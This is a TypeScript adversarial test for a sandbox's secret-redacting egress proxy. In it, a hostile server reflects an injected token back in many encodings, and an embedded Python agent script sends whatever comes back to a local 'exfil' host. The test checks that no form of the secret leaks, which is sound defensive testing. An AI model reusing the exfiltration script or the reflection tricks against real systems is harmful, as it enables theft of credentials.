/**
 * Adversarial: reflected secrets (issue 9 item 3). The agent holds only a placeholder; the egress proxy injects the
 * value toward the bound host. Here the bound host is hostile to the operator's interest: every route reflects the
 * value back — echoed headers, an error page quoting it, header values and a header *name*, a status message, the
 * value in base64 / base64url / hex / URL / form / JSON / inside `Basic base64(user:value)` — as gzip, deflate and
 * br bodies it sends whatever the client asked for, as a chunked body, and split across chunks and TCP writes. The
 * agent collects everything that came back, prints it (raw and hex) and sends it (raw, hex, base64, in the query) to
 * another allowed host that is *not* in the secret's `hosts`.
 *
 * It must see only the placeholder; the other host, the logs, the output, the ledger and every file in AEGIS_HOME
 * must hold no encoding of the value; a body in a coding the proxy cannot decode is refused (502) and audited.
 */
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { createServer as createHttpServer, type Server as HttpServer, type ServerResponse } from 'node:http';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import zlib from 'node:zlib';
import { formatExportLine } from '../../src/domain/audit/export-format.ts';
import { adversarialRuntimes, Harness } from './harness.ts';

// Characters that make the encodings differ from the raw value (`/`, `+`, `=`, `"`, `\`, space, `&`).
const VALUE = `sk-refl-${randomBytes(16).toString('hex')}/+="\\ &Z`;

/** Every encoding of VALUE the attack used or could use, computed independently of the redactor's list. */
function forbiddenForms(value: string): string[] {
  const bytes = Buffer.from(value);
  const forms = [
    value,
    bytes.toString('base64'),
    bytes.toString('base64').replace(/=+$/, ''),
    bytes.toString('base64url'),
    bytes.toString('hex'),
    bytes.toString('hex').toUpperCase(),
    encodeURIComponent(value),
    new URLSearchParams({ v: value }).toString().slice(2),
    JSON.stringify(value).slice(1, -1),
  ];
  // Inside longer base64 (`Basic base64(user:value)`): a middle slice, fully inside the value, at each alignment.
  for (const prefix of ['', 'u', 'us']) {
    for (const alphabet of ['base64', 'base64url'] as const) {
      forms.push(
        Buffer.from(prefix + value)
          .toString(alphabet)
          .slice(8, 32),
      );
    }
  }
  // The value's random core on its own (any partial leak of the value would show it).
  forms.push(value.slice(8, 40));
  return forms;
}
const FORBIDDEN = forbiddenForms(VALUE);

function leaks(haystack: string | Buffer): string[] {
  const text = typeof haystack === 'string' ? haystack : haystack.toString('latin1');
  return FORBIDDEN.filter((form) => text.includes(form));
}

/** Every way the bound host hands the value (taken from the request it received) back. */
function reflections(value: string, auth: string): string {
  const basic = (user: string) => Buffer.from(`${user}:${value}`).toString('base64');
  return [
    `authorization=${auth}`,
    `base64=${Buffer.from(value).toString('base64')}`,
    `base64url=${Buffer.from(value).toString('base64url')}`,
    `hex=${Buffer.from(value).toString('hex')}`,
    `HEX=${Buffer.from(value).toString('hex').toUpperCase()}`,
    `url=${encodeURIComponent(value)}`,
    `form=${new URLSearchParams({ v: value }).toString()}`,
    `json=${JSON.stringify({ key: value })}`,
    `basic=Basic ${basic('u')} Basic ${basic('us')} Basic ${basic('use')}`,
  ].join('\n');
}

const PY_AGENT = `
import base64, gzip, urllib.error, urllib.parse, urllib.request, zlib

token = os.environ["API_TOKEN"]
B = INPUT["bound"]
X = INPUT["exfil"]

def call(path):
    headers = {"Authorization": "Bearer " + token, "X-Token": token, "Accept-Encoding": "gzip, deflate, br"}
    req = urllib.request.Request(f"http://127.0.0.1:{B}{path}", headers=headers)
    try:
        with urllib.request.urlopen(req, timeout=20) as r:
            status, reason, hdrs, body = r.status, r.reason, r.getheaders(), r.read()
    except urllib.error.HTTPError as e:
        status, reason, hdrs, body = e.code, e.reason, list(e.headers.items()), e.read()
    except Exception as e:
        return {"path": path, "status": None, "error": f"{type(e).__name__}: {e}", "text": ""}
    enc = {k.lower(): v for k, v in hdrs}.get("content-encoding", "")
    # Had the proxy passed an encoded body through, the agent would simply decode it.
    try:
        if enc in ("gzip", "x-gzip"):
            body = gzip.decompress(body)
        elif enc == "deflate":
            body = zlib.decompress(body)
    except Exception:
        pass
    text = f"{status} {reason}\\n" + "\\n".join(f"{k}: {v}" for k, v in hdrs) + "\\n\\n" + body.decode("latin-1")
    return {"path": path, "status": status, "encoding": enc, "text": text}

def send(path, data):
    req = urllib.request.Request(f"http://127.0.0.1:{X}{path}", data=data, method="POST")
    try:
        with urllib.request.urlopen(req, timeout=20) as r:
            return r.status
    except Exception as e:
        return f"{type(e).__name__}: {e}"

results = [call(p) for p in INPUT["paths"]]
sent = []
for r in results:
    raw = r["text"].encode("latin-1")
    print("got " + r["path"] + " " + raw.hex(), flush=True)
    print("text " + r["text"].replace("\\n", " | "), flush=True)
    sent.append(send("/raw", raw))
    sent.append(send("/hex", raw.hex().encode()))
    sent.append(send("/b64", base64.b64encode(raw)))
    sent.append(send("/q?" + urllib.parse.urlencode({"q": r["text"][:1500]}), b""))
report({"token": token, "results": results, "sent": sent})
`;

for (const [isolation, skip] of adversarialRuntimes()) {
  describe(`adversarial: reflected secrets (${isolation})`, { concurrency: false, skip }, () => {
    let h: Harness;
    let bound: HttpServer;
    let exfil: HttpServer;
    let boundPort = 0;
    let exfilPort = 0;
    const boundSeen: string[] = [];
    const exfilReceived: Buffer[] = [];

    before(async () => {
      h = new Harness({ isolation });
      await h.ctx.secrets.set('TOKEN', VALUE);
      bound = createHttpServer((req, res) => {
        const auth = req.headers.authorization ?? '';
        boundSeen.push(auth);
        const value = auth.replace(/^Bearer /, '');
        const body = Buffer.from(`${reflections(value, auth)}\n`);
        const send = (res: ServerResponse, status: number, headers: Record<string, string>, data: Buffer) => {
          res.writeHead(status, headers);
          res.end(data);
        };
        const path = req.url ?? '/';
        if (path === '/echo') {
          res.setHeader('X-Echo-Auth', auth);
          res.setHeader('WWW-Authenticate', `Bearer error="invalid_token", token="${value}"`);
          res.setHeader(`X-${Buffer.from(value).toString('hex')}`, 'named after the value');
          res.statusMessage = `OK ${value}`;
          send(res, 200, { 'Content-Type': 'text/plain' }, body);
        } else if (path === '/error') {
          send(res, 401, { 'Content-Type': 'text/html' }, Buffer.from(`<p>invalid key: ${value}</p>`));
        } else if (path === '/gzip') {
          send(res, 200, { 'Content-Encoding': 'gzip' }, zlib.gzipSync(body));
        } else if (path === '/deflate') {
          send(res, 200, { 'Content-Encoding': 'deflate' }, zlib.deflateSync(body));
        } else if (path === '/br') {
          send(res, 200, { 'Content-Encoding': 'br' }, zlib.brotliCompressSync(body));
        } else if (path === '/gzip-br') {
          send(res, 200, { 'Content-Encoding': 'gzip, br' }, zlib.brotliCompressSync(zlib.gzipSync(body)));
        } else if (path === '/chunked') {
          res.writeHead(200, { 'Content-Type': 'text/plain' });
          for (let at = 0; at < body.length; at += 7) res.write(body.subarray(at, at + 7));
          res.end();
        } else if (path === '/split') {
          // The value split at several points across HTTP chunks *and* separate TCP writes.
          res.writeHead(200, { 'Content-Type': 'text/plain' });
          res.flushHeaders();
          const pieces = [
            'before ',
            value.slice(0, 5),
            value.slice(5, 20),
            value.slice(20, 21),
            `${value.slice(21)} hex `,
            Buffer.from(value).toString('hex').slice(0, 33),
            `${Buffer.from(value).toString('hex').slice(33)} after`,
          ];
          const next = () => {
            const piece = pieces.shift();
            if (piece === undefined) res.end();
            else res.write(piece, () => setTimeout(next, 5));
          };
          next();
        } else if (path === '/compress') {
          send(res, 200, { 'Content-Encoding': 'compress' }, body);
        } else {
          send(res, 404, {}, Buffer.from('no such route'));
        }
      });
      exfil = createHttpServer((req, res) => {
        const chunks: Buffer[] = [Buffer.from(`${req.method} ${req.url}\n${req.rawHeaders.join('\n')}\n\n`)];
        req.on('data', (chunk: Buffer) => chunks.push(chunk));
        req.on('end', () => {
          exfilReceived.push(Buffer.concat(chunks));
          res.end('thanks');
        });
      });
      await new Promise<void>((resolve) => bound.listen(0, '127.0.0.1', resolve));
      await new Promise<void>((resolve) => exfil.listen(0, '127.0.0.1', resolve));
      boundPort = (bound.address() as { port: number }).port;
      exfilPort = (exfil.address() as { port: number }).port;
    });
    after(async () => {
      bound.closeAllConnections();
      exfil.closeAllConnections();
      await Promise.all([
        new Promise((resolve) => bound.close(resolve)),
        new Promise((resolve) => exfil.close(resolve)),
      ]);
      await h.close();
    });

    it('the agent reads back only placeholders; no other host, log, output, ledger or file gets the value', async () => {
      const paths = [
        '/echo',
        '/error',
        '/gzip',
        '/deflate',
        '/br',
        '/gzip-br',
        '/chunked',
        '/split',
        '/compress',
      ];
      const result = await h.run({
        name: 'secret-reflector',
        code: PY_AGENT,
        secrets: [{ name: 'TOKEN', env: 'API_TOKEN', hosts: [`127.0.0.1:${boundPort}`] }],
        network: { allow: [`127.0.0.1:${boundPort}`, `127.0.0.1:${exfilPort}`] },
        input: { bound: boundPort, exfil: exfilPort, paths },
        resources: { timeout: '120s' },
      });
      const transcript = Harness.transcript(result);
      assert.equal(result.record.status, 'succeeded', transcript);
      const placeholder = result.report.token as string;
      assert.match(placeholder, /^aegis-secret:TOKEN:[0-9a-f]{32}$/);

      // The bound host did get the value (injection still works), once per route.
      assert.equal(boundSeen.length, paths.length);
      for (const seen of boundSeen) assert.equal(seen, `Bearer ${VALUE}`);

      // What came back into the sandbox: the placeholder where the value was, never the value.
      const byPath = new Map<string, { status: number; encoding: string; text: string }>(
        result.report.results.map((r: { path: string }) => [r.path, r]),
      );
      for (const path of paths.filter((p) => p !== '/compress')) {
        const got = byPath.get(path)!;
        assert.deepEqual(leaks(got.text), [], `${path}: ${got.text}`);
        assert.ok(got.text.includes(placeholder), `${path} reflects the placeholder: ${got.text}`);
        assert.equal(got.encoding, '', `${path} arrives decoded`);
      }
      const echo = byPath.get('/echo')!.text;
      assert.ok(echo.includes(`authorization=Bearer ${placeholder}`), echo);
      assert.ok(echo.includes(`X-Echo-Auth: Bearer ${placeholder}`), echo);
      assert.ok(echo.startsWith(`200 OK ${placeholder}`), echo);
      assert.ok(!echo.includes('named after the value'), 'a header named after the value is dropped');
      assert.ok(byPath.get('/split')!.text.includes(`before ${placeholder} hex ${placeholder} after`));
      assert.equal(byPath.get('/error')!.status, 401);
      // A coding the proxy cannot decode is refused, not forwarded.
      const compress = byPath.get('/compress')!;
      assert.equal(compress.status, 502, compress.text);
      assert.match(compress.text, /Content-Encoding "compress"/);

      // The exfiltration host got the agent's loot in every form — and no form of the value.
      assert.ok(exfilReceived.length >= 4 * (paths.length - 1), `${exfilReceived.length} exfil requests`);
      for (const received of exfilReceived)
        assert.deepEqual(leaks(received), [], received.toString('latin1'));

      // Output, live and stored logs, the execution record.
      assert.deepEqual(leaks(JSON.stringify(result.report)), []);
      assert.deepEqual(leaks(transcript), []);
      assert.deepEqual(leaks(JSON.stringify(result.record)), []);
      const stored = await h.ctx.store.readLogs(result.executionId);
      assert.ok(stored.some((line) => line.text.startsWith('got /echo ')));
      assert.deepEqual(leaks(JSON.stringify(stored)), []);

      // The ledger: which host reflected the secret, and the refused coding.
      const entries = await h.ctx.audit.list(result.executionId);
      assert.deepEqual(leaks(JSON.stringify(entries)), []);
      const reflected = entries
        .filter((e) => e.kind === 'secret.use' && e.data.where === 'response')
        .map((e) => e.data);
      assert.ok(reflected.length >= paths.length - 1, JSON.stringify(reflected));
      for (const use of reflected) {
        assert.deepEqual(use, {
          name: 'TOKEN',
          host: '127.0.0.1',
          port: boundPort,
          injected: false,
          where: 'response',
          reason: 'reflected',
        });
      }
      const refused = entries.filter(
        (e) => e.kind === 'network.connect' && e.data.error === 'unscrubbable-encoding: compress',
      );
      assert.equal(refused.length, 1, JSON.stringify(entries.filter((e) => e.kind === 'network.connect')));

      // The bytes on disk and the export.
      await h.ctx.audit.flush();
      let exported = '';
      for await (const record of h.ctx.audit.export()) exported += `${formatExportLine(record)}\n`;
      assert.deepEqual(leaks(exported), []);
      for (const file of readdirSync(h.home)) {
        if (!/\.(db|db-wal|db-shm|json)$/.test(file)) continue;
        assert.deepEqual(leaks(readFileSync(join(h.home, file))), [], file);
      }
    });
  });
}
